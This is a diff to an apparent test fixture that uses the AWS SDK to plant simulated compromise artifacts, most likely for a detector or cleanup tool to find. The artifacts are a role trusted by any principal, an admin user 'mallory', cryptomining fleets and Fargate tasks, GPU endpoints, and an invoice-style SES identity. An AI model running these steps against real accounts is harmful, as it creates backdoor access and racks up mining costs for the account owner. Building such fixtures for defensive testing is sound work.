@@ -6,11 +6,14 @@ import {
 import { BatchClient, CreateComputeEnvironmentCommand, CreateJobQueueCommand } from '@aws-sdk/client-batch';
 import {
   AuthorizeSecurityGroupIngressCommand,
+  CreateFleetCommand,
   CreateKeyPairCommand,
   CreateLaunchTemplateCommand,
   CreateSecurityGroupCommand,
+  DescribeSubnetsCommand,
   EC2Client,
   ModifyInstanceAttributeCommand,
+  RequestSpotFleetCommand,
   RequestSpotInstancesCommand,
   RunInstancesCommand,
 } from '@aws-sdk/client-ec2';
@@ -19,6 +22,7 @@ import {
   CreateServiceCommand,
   ECSClient,
   RegisterTaskDefinitionCommand,
+  RunTaskCommand,
 } from '@aws-sdk/client-ecs';
 import { EventBridgeClient, PutRuleCommand } from '@aws-sdk/client-eventbridge';
 import {
@@ -35,12 +39,22 @@ import {
   PutUserPolicyCommand,
 } from '@aws-sdk/client-iam';
 import { AddPermissionCommand, CreateFunctionCommand, LambdaClient } from '@aws-sdk/client-lambda';
-import { CreateNotebookInstanceCommand, SageMakerClient } from '@aws-sdk/client-sagemaker';
+import {
+  CreateEndpointCommand,
+  CreateEndpointConfigCommand,
+  CreateModelCommand,
+  CreateNotebookInstanceCommand,
+  SageMakerClient,
+} from '@aws-sdk/client-sagemaker';
 import { CreateScheduleCommand, SchedulerClient } from '@aws-sdk/client-scheduler';
+import { CreateEmailIdentityCommand, SESv2Client } from '@aws-sdk/client-sesv2';
 
 const allow = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}';
 const trust =
   '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}]}';
+/** The trust of an innocent's role, as the attacker left it. */
+const openTrust =
+  '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}';
 /** An empty zip archive: its end-of-directory record alone. */
 const emptyZip = Buffer.from(`504b0506${'00'.repeat(18)}`, 'hex');
 
@@ -64,6 +78,10 @@ export async function plant(endpoint: string, region: string): Promise<Record<st
   const { Role } = await iam.send(
     new CreateRoleCommand({ RoleName: 'backdoor', AssumeRolePolicyDocument: trust }),
   );
+  await iam.send(new CreateRoleCommand({ RoleName: 'backup', AssumeRolePolicyDocument: openTrust }));
+  await iam.send(new CreateUserCommand({ UserName: 'mallory' }));
+  await iam.send(new PutUserPolicyCommand({ UserName: 'mallory', PolicyName: 'all', PolicyDocument: allow }));
+  await iam.send(new AddUserToGroupCommand({ UserName: 'mallory', GroupName: 'admins' }));
   const oidc = await iam.send(
     new CreateOpenIDConnectProviderCommand({
       Url: 'https://evil.example',
@@ -82,6 +100,26 @@ export async function plant(endpoint: string, region: string): Promise<Record<st
   );
   const template = await ec2.send(
     new CreateLaunchTemplateCommand({ LaunchTemplateName: 'miners', LaunchTemplateData: launch }),
+  );
+  const spotFleet = await ec2.send(
+    new RequestSpotFleetCommand({
+      SpotFleetRequestConfig: {
+        IamFleetRole: Role?.Arn,
+        TargetCapacity: 2,
+        SpotPrice: '1',
+        AllocationStrategy: 'lowestPrice',
+        LaunchSpecifications: [launch],
+      },
+    }),
+  );
+  const fleet = await ec2.send(
+    new CreateFleetCommand({
+      Type: 'maintain',
+      TargetCapacitySpecification: { TotalTargetCapacity: 2, DefaultTargetCapacityType: 'on-demand' },
+      LaunchTemplateConfigs: [
+        { LaunchTemplateSpecification: { LaunchTemplateName: 'miners', Version: '$Latest' } },
+      ],
+    }),
   );
   await ec2.send(new CreateKeyPairCommand({ KeyName: 'door' }));
   const group = await ec2.send(new CreateSecurityGroupCommand({ GroupName: 'open', Description: 'open' }));
@@ -137,6 +175,17 @@ export async function plant(endpoint: string, region: string): Promise<Record<st
   await ecs.send(
     new CreateServiceCommand({ cluster: 'c', serviceName: 's', taskDefinition: 'miner', desiredCount: 5 }),
   );
+  const { Subnets } = await ec2.send(new DescribeSubnetsCommand({}));
+  const ran = await ecs.send(
+    new RunTaskCommand({
+      cluster: 'c',
+      taskDefinition: 'miner',
+      launchType: 'FARGATE',
+      networkConfiguration: {
+        awsvpcConfiguration: { subnets: [Subnets?.[0]?.SubnetId ?? ''], assignPublicIp: 'ENABLED' },
+      },
+    }),
+  );
   const batch = new BatchClient(options);
   await batch.send(
     new CreateComputeEnvironmentCommand({
@@ -165,7 +214,25 @@ export async function plant(endpoint: string, region: string): Promise<Record<st
       Target: { Arn: `arn:aws:lambda:${region}:123456789012:function:fn`, RoleArn: Role?.Arn },
     }),
   );
-  await new SageMakerClient(options).send(
+  const sageMaker = new SageMakerClient(options);
+  await sageMaker.send(
+    new CreateModelCommand({
+      ModelName: 'm',
+      ExecutionRoleArn: Role?.Arn,
+      PrimaryContainer: { Image: 'docker.example/m' },
+    }),
+  );
+  await sageMaker.send(
+    new CreateEndpointConfigCommand({
+      EndpointConfigName: 'e',
+      ProductionVariants: [
+        { VariantName: 'a', ModelName: 'm', InstanceType: 'ml.g4dn.xlarge', InitialInstanceCount: 1 },
+      ],
+    }),
+  );
+  await sageMaker.send(new CreateEndpointCommand({ EndpointName: 'e', EndpointConfigName: 'e' }));
+  await new SESv2Client(options).send(new CreateEmailIdentityCommand({ EmailIdentity: 'invoices.example' }));
+  await sageMaker.send(
     new CreateNotebookInstanceCommand({
       NotebookInstanceName: 'nb',
       InstanceType: 'ml.p3.2xlarge',
@@ -188,6 +255,13 @@ export async function plant(endpoint: string, region: string): Promise<Record<st
     'eventbridge-rules': 'default/again',
     'scheduler-schedules': 'default/again',
     'ec2-instances': InstanceId,
+    'spot-fleets': spotFleet.SpotFleetRequestId ?? '',
+    'ec2-fleets': fleet.FleetId ?? '',
+    'ecs-tasks': ran.tasks?.[0]?.taskArn ?? '',
+    'sagemaker-endpoints': 'e',
+    'ses-identities': 'invoices.example',
+    'iam-principals': 'user|mallory',
+    'role-trust': 'backup',
     'iam-grants': `User|${UserName}|attached|${Policy?.Arn ?? ''}`,
     'managed-policies': Policy?.Arn ?? '',
     'lambda-permissions': 'fn:public',
